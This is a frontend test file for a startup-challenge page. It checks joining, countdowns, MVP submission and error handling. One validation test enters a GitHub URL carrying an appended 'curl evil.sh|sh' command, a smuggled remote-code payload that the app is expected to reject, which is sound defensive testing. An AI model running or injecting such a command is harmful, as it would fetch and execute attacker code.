import { afterEach, describe, expect, it, vi } from 'vitest';
import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { renderAt, signedOutAuth } from '../../../testing/render';
import { EXIT_CONFIRM, LATE_JOIN_NOTE, TOO_LATE_NOTE } from './challenge-actions';
import { ChallengePage } from './challenge-page';
import type { CurrentUser } from '@seedmatch/shared/users';
import { CHALLENGE_ID, ME, challenge, joined, myIdeas, serve, submission } from './challenge-test-data';

afterEach(() => vi.unstubAllGlobals());

const base = `/api/challenges/${CHALLENGE_ID}`;

function renderPage(role: 'FOUNDER' | 'INVESTOR' = 'FOUNDER') {
  window.localStorage.setItem('authToken', 't');
  const user = { id: ME, role } as CurrentUser;
  return renderAt(<ChallengePage />, { path: '/app/challenge', auth: signedOutAuth({ status: 'signed-in', role, user }) });
}

// happy-dom has no alert or confirm; they are stubbed on the global window.
function stubDialog<T>(name: 'alert' | 'confirm', answer: T) {
  const dialog = vi.fn((_message?: string) => answer);
  vi.stubGlobal(name, dialog);
  return dialog;
}
const alertSpy = () => stubDialog('alert', undefined);

describe('ChallengePage', () => {
  it('shows the title, prizes, status, participants, server-time countdown and elapsed ring', async () => {
    const serverNow = Date.now() + 5 * 3600_000; // the server's clock runs 5 hours ahead
    serve(() => Response.json(challenge({}, {}, serverNow)));
    renderPage();
    expect(await screen.findByRole('heading', { name: 'Launch Sprint' })).toBeTruthy();
    const prizes = within(screen.getByRole('list', { name: 'Prizes' })).getAllByRole('listitem');
    const rankAndAmount = (prize: HTMLElement) => [
      within(prize).getByText(/^\d(st|nd|rd)$/).textContent,
      within(prize).getByText(/^\$/).textContent,
    ];
    expect(prizes.map(rankAndAmount)).toEqual([
      ['1st', '$5,000'],
      ['2nd', '$2,000'],
      ['3rd', '$1,000'],
    ]);
    expect(screen.getByLabelText('Challenge status: active')).toBeTruthy();
    expect(screen.getByText('3/100 participants')).toBeTruthy();
    expect(screen.getByText('25% elapsed')).toBeTruthy();
    expect(screen.getByRole('timer').textContent).toMatch(/^(35:59:5\d|36:00:00)$/);
  });

  it('re-renders the countdown every second', async () => {
    serve(() => Response.json(challenge()));
    renderPage();
    const first = (await screen.findByRole('timer')).textContent;
    await waitFor(() => expect(screen.getByRole('timer').textContent).not.toBe(first), { timeout: 2500 });
  });

  it('joins, then offers Generate MVP, a locked Submit MVP and Exit Challenge', async () => {
    const calls = serve((url) =>
      url === `${base}/join`
        ? Response.json({ challenge: challenge(joined(0), { participants: 4 }), message: 'You joined the challenge.' })
        : Response.json(challenge()),
    );
    renderPage();
    await userEvent.click(await screen.findByRole('button', { name: 'Join Challenge' }));
    expect(await screen.findByRole('button', { name: 'Exit Challenge' })).toBeTruthy();
    expect(calls).toContain(`POST ${base}/join`);
    expect(screen.getByText('4/100 participants')).toBeTruthy();
    const locked = screen.getByRole('button', { name: /Submit MVP/ }) as HTMLButtonElement;
    expect(locked.disabled).toBe(true);
    expect(locked.textContent).toContain('Wait 30m');
    // Join went away with the change: focus is on the status that says so, not lost to the page.
    expect(document.activeElement?.textContent).toBe('Your status: joined');
  });

  it('says when the end comes before the 30 minutes after joining: before joining, and to one who joined', async () => {
    const closing = { endsAt: new Date(Date.now() + 10 * 60_000).toISOString() };
    serve(() => Response.json(challenge({}, closing)));
    const { unmount } = renderPage();
    expect(await screen.findByText(LATE_JOIN_NOTE)).toBeTruthy();
    expect(screen.getByRole('button', { name: 'Join Challenge' })).toBeTruthy();
    unmount();

    serve(() => Response.json(challenge(joined(1), closing)));
    renderPage();
    expect(await screen.findByText(TOO_LATE_NOTE)).toBeTruthy();
    const locked = screen.getByRole('button', { name: /Submit MVP/ }) as HTMLButtonElement;
    expect(locked.disabled).toBe(true);
    expect(locked.textContent).not.toContain('Wait');
  });

  it('alerts the server error when joining fails', async () => {
    const alert = alertSpy();
    serve((url) =>
      url.endsWith('/join') ? Response.json({ error: 'The challenge is full.' }, { status: 409 }) : Response.json(challenge()),
    );
    renderPage();
    await userEvent.click(await screen.findByRole('button', { name: 'Join Challenge' }));
    await waitFor(() => expect(alert).toHaveBeenCalledWith('The challenge is full.'));
  });

  it('lets a founder join a waiting challenge, and investors only follow along', async () => {
    const later = Date.now() + 3600_000;
    serve(() =>
      Response.json(
        challenge(
          {},
          { status: 'waiting', startsAt: new Date(later).toISOString(), endsAt: new Date(later + 48 * 3600_000).toISOString() },
        ),
      ),
    );
    const { unmount } = renderPage();
    expect(await screen.findByRole('button', { name: 'Join Challenge' })).toBeTruthy();
    expect(screen.getByText('0% elapsed')).toBeTruthy();
    expect(screen.getByText('Starts in')).toBeTruthy();
    unmount();
    renderPage('INVESTOR');
    expect(await screen.findByText(/Investors can follow along/)).toBeTruthy();
    expect(screen.queryByRole('button', { name: 'Join Challenge' })).toBeNull();
  });

  it('alerts "MVP generation feature coming soon!" for Generate MVP', async () => {
    const alert = alertSpy();
    serve(() => Response.json(challenge(joined(5))));
    renderPage();
    await userEvent.click(await screen.findByRole('button', { name: 'Generate MVP' }));
    expect(alert).toHaveBeenCalledWith('MVP generation feature coming soon!');
  });

  it('exits after the confirm, and stays when it is cancelled', async () => {
    const confirm = stubDialog('confirm', false);
    const calls = serve((url) =>
      url === `${base}/leave`
        ? Response.json({ challenge: challenge(), message: 'You left the challenge.' })
        : Response.json(challenge(joined(5))),
    );
    renderPage();
    await userEvent.click(await screen.findByRole('button', { name: 'Exit Challenge' }));
    expect(confirm).toHaveBeenCalledWith(EXIT_CONFIRM);
    expect(EXIT_CONFIRM).toBe('Are you sure you want to exit the challenge? You can rejoin anytime before the deadline.');
    expect(calls).not.toContain(`POST ${base}/leave`);
    confirm.mockImplementation(() => true);
    await userEvent.click(screen.getByRole('button', { name: 'Exit Challenge' }));
    expect(await screen.findByRole('button', { name: 'Join Challenge' })).toBeTruthy();
    expect(calls).toContain(`POST ${base}/leave`);
  });

  it('requires a GitHub URL before sending the MVP', async () => {
    const alert = alertSpy();
    const calls = serve(() => Response.json(challenge(joined(45))));
    renderPage();
    await userEvent.click(await screen.findByRole('button', { name: 'Submit MVP' }));
    await userEvent.click(screen.getByRole('button', { name: 'Submit MVP' }));
    expect(alert).toHaveBeenCalledWith('GitHub URL is required');
    expect(calls.filter((call) => call.startsWith('POST'))).toEqual([]);
  });

  it('submits the MVP and shows the credits the server computed', async () => {
    const calls = serve((url) =>
      url === `${base}/submit`
        ? Response.json(
            { challenge: challenge(joined(45, submission)), submission, message: 'MVP submitted! You earned 110 credits.' },
            { status: 201 },
          )
        : Response.json(challenge(joined(45))),
    );
    renderPage();
    await userEvent.click(await screen.findByRole('button', { name: 'Submit MVP' }));
    await userEvent.type(screen.getByLabelText('GitHub URL'), 'https://github.com/ada/mvp');
    await userEvent.type(screen.getByLabelText('Description'), 'A compost tracker');
    await userEvent.type(screen.getByLabelText('Tech stack'), 'React');
    await userEvent.type(screen.getByLabelText('Live URL'), 'https://mvp.example.com');
    await userEvent.click(screen.getByLabelText('README with setup instructions'));
    const picker = screen.getByLabelText('Idea this MVP ships') as HTMLSelectElement;
    expect([...picker.options].map((option) => [option.text, option.selected])).toEqual([
      ['Newest idea', true],
      ['Compost tracker', false],
    ]);
    await userEvent.selectOptions(picker, 'Compost tracker');
    await userEvent.click(screen.getByRole('button', { name: 'Submit MVP' }));
    expect(await screen.findByText('You earned 110 credits')).toBeTruthy();
    const summary = screen.getByRole('region', { name: 'Your MVP' });
    expect(within(summary).getByRole('heading', { name: 'MVP submitted' })).toBeTruthy();
    expect(summary.textContent).toContain('Ships: Compost tracker');
    expect(screen.getByText('submitted')).toBeTruthy();
    expect(screen.queryByRole('button', { name: 'Exit Challenge' })).toBeNull();
    const body = JSON.parse(
      calls
        .find((call) => call.startsWith(`POST ${base}/submit`))!
        .split(' ')
        .slice(2)
        .join(' '),
    );
    expect(body).toEqual({
      ideaId: myIdeas[1]!.id,
      githubUrl: 'https://github.com/ada/mvp',
      description: 'A compost tracker',
      techStack: 'React',
      liveUrl: 'https://mvp.example.com',
      hasReadme: true,
      readme: '',
    });
  });

  it('sends the newest idea unless another is chosen, and with no idea links to submitting one', async () => {
    const calls = serve((url) =>
      url === `${base}/submit` ? Response.json({ error: 'stop here' }, { status: 400 }) : Response.json(challenge(joined(45))),
    );
    stubDialog('alert', undefined);
    const first = renderPage();
    await userEvent.click(await screen.findByRole('button', { name: 'Submit MVP' }));
    await userEvent.type(screen.getByLabelText('GitHub URL'), 'https://github.com/ada/mvp');
    await userEvent.click(await screen.findByRole('button', { name: 'Submit MVP' }));
    await waitFor(() => expect(calls.find((call) => call.startsWith(`POST ${base}/submit`))).toContain(`"ideaId":"${myIdeas[0]!.id}"`));
    first.unmount();

    serve(() => Response.json(challenge(joined(45))), []);
    renderPage();
    await userEvent.click(await screen.findByRole('button', { name: 'Submit MVP' }));
    expect((await screen.findByRole('status')).textContent).toContain('You have no ideas yet.');
    expect(screen.getByRole('link', { name: 'Submit an idea' }).getAttribute('href')).toBe('/app/submit-idea');
    expect(screen.queryByLabelText('Idea this MVP ships')).toBeNull();
    expect((screen.getAllByRole('button', { name: 'Submit MVP' }).at(-1) as HTMLButtonElement).disabled).toBe(true);
  });

  it('alerts the server message when the submission is refused', async () => {
    const alert = alertSpy();
    serve((url) =>
      url.endsWith('/submit')
        ? Response.json({ error: 'You can submit your MVP 30 minutes after joining.' }, { status: 400 })
        : Response.json(challenge(joined(45))),
    );
    renderPage();
    await userEvent.click(await screen.findByRole('button', { name: 'Submit MVP' }));
    await userEvent.type(screen.getByLabelText('GitHub URL'), 'https://github.com/ada/mvp');
    await userEvent.click(screen.getByRole('button', { name: 'Submit MVP' }));
    await waitFor(() => expect(alert).toHaveBeenCalledWith('You can submit your MVP 30 minutes after joining.'));
  });

  it('shows the MVP the server already has when a submission is refused for it (an answer lost on the way back, another tab)', async () => {
    const alert = alertSpy();
    let isStored = false;
    serve((url) => {
      if (!url.endsWith('/submit')) return Response.json(challenge(joined(45, isStored ? submission : null)));
      isStored = true;
      return Response.json({ error: 'You already submitted your MVP.' }, { status: 409 });
    });
    renderPage();
    await userEvent.click(await screen.findByRole('button', { name: 'Submit MVP' }));
    await userEvent.type(screen.getByLabelText('GitHub URL'), 'https://github.com/ada/mvp');
    await userEvent.click(screen.getByRole('button', { name: 'Submit MVP' }));
    await waitFor(() => expect(alert).toHaveBeenCalledWith('You already submitted your MVP.'));

    const summary = await screen.findByRole('region', { name: 'Your MVP' });
    expect(within(summary).getByRole('heading', { name: 'MVP submitted' })).toBeTruthy();
    expect(screen.queryByRole('form', { name: 'Submit your MVP' })).toBeNull();
  });

  it('refuses a link that is not a plain repository address with the API message, and sends nothing', async () => {
    const alert = alertSpy();
    const calls = serve(() => Response.json(challenge(joined(45))));
    renderPage();
    await userEvent.click(await screen.findByRole('button', { name: 'Submit MVP' }));
    await userEvent.type(screen.getByLabelText('GitHub URL'), 'https://github.com/ada/mvp;curl evil.sh|sh');
    await userEvent.click(screen.getByRole('button', { name: 'Submit MVP' }));
    expect(alert).toHaveBeenCalledWith('GitHub URL must be a link to a repository: https://github.com/owner/repo');
    await userEvent.clear(screen.getByLabelText('GitHub URL'));
    await userEvent.type(screen.getByLabelText('GitHub URL'), 'https://github.com/ada/mvp');
    await userEvent.type(screen.getByLabelText('Live URL'), 'http://mvp.example.com');
    await userEvent.click(screen.getByRole('button', { name: 'Submit MVP' }));
    expect(alert).toHaveBeenLastCalledWith('Live URL must be a web address starting with https://');
    expect(calls.some((call) => call.includes('/submit'))).toBe(false);
  });

  it('shows an ended challenge with the submitted MVP', async () => {
    const ended = Date.now() - 3600_000;
    serve(() =>
      Response.json(
        challenge(joined(600, submission), {
          status: 'ended',
          startsAt: new Date(ended - 48 * 3600_000).toISOString(),
          endsAt: new Date(ended).toISOString(),
        }),
      ),
    );
    renderPage();
    expect(await screen.findByText('You earned 110 credits')).toBeTruthy();
    expect(screen.getByText('This challenge has ended.')).toBeTruthy();
    expect(screen.getByText('100% elapsed')).toBeTruthy();
  });

  it('says so when the idea an MVP shipped has since been deleted', async () => {
    serve(() => Response.json(challenge(joined(600, { ...submission, ideaId: null, ideaTitle: null }))));
    renderPage();
    const summary = await screen.findByRole('region', { name: 'Your MVP' });
    expect(summary.textContent).toContain('Ships: an idea you have since deleted');
  });

  it('shows "No Active Challenge" when the challenge cannot be loaded', async () => {
    const warn = vi.spyOn(console, 'warn').mockImplementation(() => undefined);
    serve(() => Response.json({ error: 'down' }, { status: 500 }));
    renderPage();
    expect(await screen.findByRole('heading', { name: 'No Active Challenge' })).toBeTruthy();
    expect(warn).toHaveBeenCalled();
    warn.mockRestore();
  });
});
